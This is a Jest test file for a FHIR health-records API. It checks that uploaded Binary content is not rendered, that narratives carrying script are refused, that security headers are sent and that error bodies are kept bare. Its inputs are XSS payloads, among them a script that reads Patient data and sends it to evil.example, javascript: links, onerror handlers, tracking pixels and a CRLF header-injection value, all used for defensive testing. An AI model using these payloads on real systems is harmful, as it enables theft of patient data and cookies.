import net from 'node:net';
import { FHIR_JSON, http, startTarget, Target, authorization } from '../harness';

/**
 * Content that would run as script on the API's origin, or leak from it
 * (docs/decisions/006-content-on-the-api-origin.md): Binary content served back,
 * narratives a browser reads otherwise than the checker, the headers every answer
 * carries, and Express's own error answers.
 */
let t: Target;
beforeAll(async () => {
  t = await startTarget();
});
afterAll(async () => {
  await t.close();
});
// These tests write a bad content type straight into the database (as an older version
// stored it): against a server at FHIR_BASE_URL there is no database to reach, so they run
// in-process only (npm test always runs them).
const inProcess = process.env.FHIR_BASE_URL ? it.skip : it;
// said where it is run, so that a run against FHIR_BASE_URL does not pass them over in silence
if (process.env.FHIR_BASE_URL) console.warn(`hostile-content.test.ts: the in-process tests do not run against ${process.env.FHIR_BASE_URL}: they write a bad content type straight into the database, which a server at FHIR_BASE_URL does not expose`);

/** What a browser sends when it navigates to a URL. */
const BROWSER_ACCEPT = 'text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,*/*;q=0.8';

/** A request written byte for byte: headers no HTTP client would send (non-ASCII, a target Express cannot parse). */
function rawRequest(head: Buffer | string, body: Buffer = Buffer.alloc(0)): Promise<{ status: number; headers: Record<string, string>; body: string }> {
  const url = new URL(t.base);
  return new Promise((resolve, reject) => {
    const socket = net.connect(Number(url.port), url.hostname, () => socket.end(Buffer.concat([Buffer.from(head), Buffer.from('\r\n\r\n'), body])));
    const chunks: Buffer[] = [];
    socket.on('data', (d) => chunks.push(d));
    socket.on('error', reject);
    socket.on('end', () => {
      const text = Buffer.concat(chunks).toString('latin1');
      const [top, ...rest] = text.split('\r\n\r\n');
      const [statusLine, ...lines] = top.split('\r\n');
      const headers: Record<string, string> = {};
      for (const l of lines) headers[l.slice(0, l.indexOf(':')).toLowerCase()] = l.slice(l.indexOf(':') + 1).trim();
      resolve({ status: Number(statusLine.split(' ')[1]), headers, body: rest.join('\r\n\r\n') });
    });
  });
}
const basePath = () => new URL(t.base).pathname.replace(/\/$/, '');
const host = () => new URL(t.base).host;

function expectEveryAnswerHeaders(get: (name: string) => string | null | undefined): void {
  expect(get('cache-control')).toBe('no-store');
  expect(get('x-content-type-options')).toBe('nosniff');
  expect(get('referrer-policy')).toBe('no-referrer');
  expect(get('content-security-policy')).toContain("default-src 'none'");
  expect(get('content-security-policy')).toContain('sandbox');
}

/** No stack trace, no file path, no HTML. */
function expectBareOutcome(body: string): void {
  expect(JSON.parse(body).resourceType).toBe('OperationOutcome');
  expect(body).not.toMatch(/\\n\s+at |node_modules|\.[jt]s:\d|\/work\/|<html|<pre>/i);
}

describe('Binary content is never rendered from the API origin', () => {
  const script = Buffer.from('<html><body><script>fetch("/fhir/Patient").then(r => r.text()).then(t => new Image().src = "https://evil.example/?" + t)</script></body></html>');
  const svg = Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(document.domain)</script></svg>');

  it.each([
    ['text/html', script],
    ['image/svg+xml', svg],
    ['text/html; charset=utf-8', script],
    ['application/xhtml+xml', script],
    ['application/pdf', Buffer.from('%PDF-1.4')],
  ])('%s uploaded raw is served back as a download, sandboxed and not sniffed', async (type, data) => {
    const created = await http(t.base, 'Binary', { method: 'POST', body: data, headers: { 'content-type': type } });
    expect(created.status).toBe(201);
    const id = /Binary\/([^/]+)\//.exec(created.headers.get('location')!)![1];
    const res = await fetch(`${t.base}/Binary/${id}`, { headers: { accept: BROWSER_ACCEPT, ...authorization(t.base) } });
    expect(res.status).toBe(200);
    expect(res.headers.get('content-type')).toBe(type);
    expect(res.headers.get('content-disposition')).toBe('attachment');
    expectEveryAnswerHeaders((n) => res.headers.get(n));
    expect(Buffer.from(await res.arrayBuffer()).equals(data)).toBe(true);
  });

  it.each([
    ['non-ASCII (the UTF-8 bytes of text/html€)', Buffer.from('text/html€', 'utf8')],
    ['300 characters', Buffer.from(`application/${'x'.repeat(288)}`)],
    ['not type/subtype', Buffer.from('text html')],
    ['a parameter without value', Buffer.from('text/plain; charset')],
  ])('a raw upload whose Content-Type is %s is refused with 400', async (_name, type) => {
    const head = Buffer.concat([
      Buffer.from(`POST ${basePath()}/Binary HTTP/1.1\r\nHost: ${host()}\r\nConnection: close\r\nContent-Length: 5\r\nContent-Type: `),
      type,
    ]);
    const res = await rawRequest(head, Buffer.from('hello'));
    expect(res.status).toBe(400);
    expect(JSON.parse(res.body).issue[0].diagnostics).toContain('Content-Type');
    expectBareOutcome(res.body);
  });

  it.each([
    ['non-ASCII', 'text/html€'],
    ['100 000 characters', `text/${'x'.repeat(100_000)}`],
    ['a header line break', 'text/plain\r\nSet-Cookie: a=b'],
  ])('Binary.contentType %s in FHIR JSON is refused with 422, the value not sent back', async (_name, contentType) => {
    const res = await http(t.base, 'Binary', { method: 'POST', json: { resourceType: 'Binary', contentType, data: 'aGVsbG8=' } });
    expect(res.status).toBe(422);
    expect(res.body.issue[0].expression).toEqual(['Binary.contentType']);
    expect(res.text.length).toBeLessThan(1000);
  });

  it('Binary.contentType that is not a media type is refused inside a transaction too', async () => {
    const res = await http(t.base, '', {
      method: 'POST',
      json: { resourceType: 'Bundle', type: 'transaction', entry: [{ resource: { resourceType: 'Binary', contentType: 'text/html€', data: 'aGVsbG8=' }, request: { method: 'POST', url: 'Binary' } }] },
    });
    expect(res.status).toBeGreaterThanOrEqual(400);
    expect(res.status).toBeLessThan(500);
  });

  inProcess.each([
    ['non-ASCII', 'text/html€'],
    ['100 000 characters', `text/${'x'.repeat(100_000)}`],
  ])('a stored content type that is not a media type (%s, from before the check) is served as application/octet-stream', async (_name, stored) => {
    const created = await http(t.base, 'Binary', { method: 'POST', body: Buffer.from('<script>alert(1)</script>'), headers: { 'content-type': 'text/plain' } });
    const id = /Binary\/([^/]+)\//.exec(created.headers.get('location')!)![1];
    await t.running!.ctx.db.knex('binary_content').where({ id }).update({ content_type: stored });
    const raw = await fetch(`${t.base}/Binary/${id}`, { headers: { accept: BROWSER_ACCEPT, ...authorization(t.base) } });
    expect(raw.status).toBe(200);
    expect(raw.headers.get('content-type')).toBe('application/octet-stream');
    expect(raw.headers.get('content-disposition')).toBe('attachment');
    expect(await raw.text()).toBe('<script>alert(1)</script>');
    const json = await http(t.base, `Binary/${id}`);
    expect(json.status).toBe(200);
    expect(json.body.resourceType).toBe('Binary');
  });
});

describe('narratives a browser would run script from are refused', () => {
  const patient = (div: string) => ({ resourceType: 'Patient', text: { status: 'generated', div }, name: [{ family: 'Shaw' }] });
  const div = (inner: string) => `<div xmlns="http://www.w3.org/1999/xhtml">${inner}</div>`;

  it.each([
    ['an event handler in what XML reads as a comment', div('<!--><img src="#a" onerror="alert(1)"/>-->')],
    ['the review comment trick', div('<!--><img src=x onerror=alert(1)><!-- -->')],
    ['a javascript: link', div('<a href="javascript:alert(document.cookie)">open</a>')],
    ['a javascript: link spelt with character references', div('<a href="&#106;avascript&#58;alert(1)">open</a>')],
    ['a data: link', div('<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">open</a>')],
    ['a remote image (who opens which record)', div('<img src="https://tracker.example/pixel.png"/>')],
    ['a remote url() in a style', div('<p style="background-image: url(https://tracker.example/pixel.png)">x</p>')],
    ['expression() in a style', div('<p style="width: expression(alert(1))">x</p>')],
    ['an iframe', div('<iframe src="https://evil.example"></iframe>')],
    ['a form', div('<form action="https://evil.example"><input name="password"/></form>')],
    ['a base element', div('<base href="https://evil.example/"/>')],
    ['an svg with a script', div('<svg><script>alert(1)</script></svg>')],
  ])('%s: 4xx with txt-1, nothing stored', async (_name, xhtml) => {
    const res = await http(t.base, 'Patient', { method: 'POST', json: patient(xhtml) });
    expect([400, 422]).toContain(res.status);
    expect(res.body.resourceType).toBe('OperationOutcome');
    expect(res.body.issue.some((i: { diagnostics: string }) => i.diagnostics.includes('txt-1'))).toBe(true);
    expect(res.headers.get('location')).toBeNull();
  });

  it('a narrative with links, tables, contained images and styles is accepted', async () => {
    const res = await http(t.base, 'Patient', {
      method: 'POST',
      json: patient(div('<p><b>Amy Shaw</b> <a href="https://example.org/x">link</a> <a href="#c">note</a></p><table><tr><td style="color: rgb(0, 0, 0)">1</td><td/></tr></table><img src="#photo" alt="photo"/>')),
    });
    expect(res.status).toBe(201);
  });
});

describe('headers on every answer', () => {
  it.each([
    ['a read', 'GET', 'metadata'],
    ['a search', 'GET', 'Patient?name=shaw'],
    ['a 404 from the FHIR endpoint', 'GET', 'Patient/does-not-exist'],
    ['a 400', 'GET', 'Patient?_summary=nope'],
    ['a 406', 'GET', 'Patient?_format=html'],
  ])('%s carries no-store, nosniff, no-referrer and the sandbox policy', async (_name, method, path) => {
    const res = await http(t.base, path, { method });
    expect(res.status).toBeGreaterThanOrEqual(200);
    expectEveryAnswerHeaders((n) => res.headers.get(n));
  });

  it('a write', async () => {
    const res = await http(t.base, 'Patient', { method: 'POST', json: { resourceType: 'Patient', name: [{ family: 'Headers' }] } });
    expect(res.status).toBe(201);
    expectEveryAnswerHeaders((n) => res.headers.get(n));
  });

  it('the catch-all 404 outside the FHIR endpoint', async () => {
    const res = await fetch(new URL('/nowhere', t.base));
    expect(res.status).toBe(404);
    expectEveryAnswerHeaders((n) => res.headers.get(n));
    expectBareOutcome(await res.text());
  });
});

describe("Express's own error answers carry no stack and no path", () => {
  it('a request target the URL parser refuses (an invalid port) answers 400 with a bare OperationOutcome', async () => {
    const res = await rawRequest(`GET http://a:99999${basePath()}/Patient HTTP/1.1\r\nHost: ${host()}\r\nConnection: close`);
    expect(res.status).toBe(400);
    expect(res.headers['content-type']).toContain(FHIR_JSON);
    expectEveryAnswerHeaders((n) => res.headers[n]);
    expectBareOutcome(res.body);
  });

  it('a request target the router cannot parse answers 404 with a bare OperationOutcome, not HTML', async () => {
    const res = await rawRequest(`GET http://[${basePath()}/Patient HTTP/1.1\r\nHost: ${host()}\r\nConnection: close`);
    expect(res.status).toBe(404);
    expect(res.headers['content-type']).toContain(FHIR_JSON);
    expectEveryAnswerHeaders((n) => res.headers[n]);
    expectBareOutcome(res.body);
  });
});
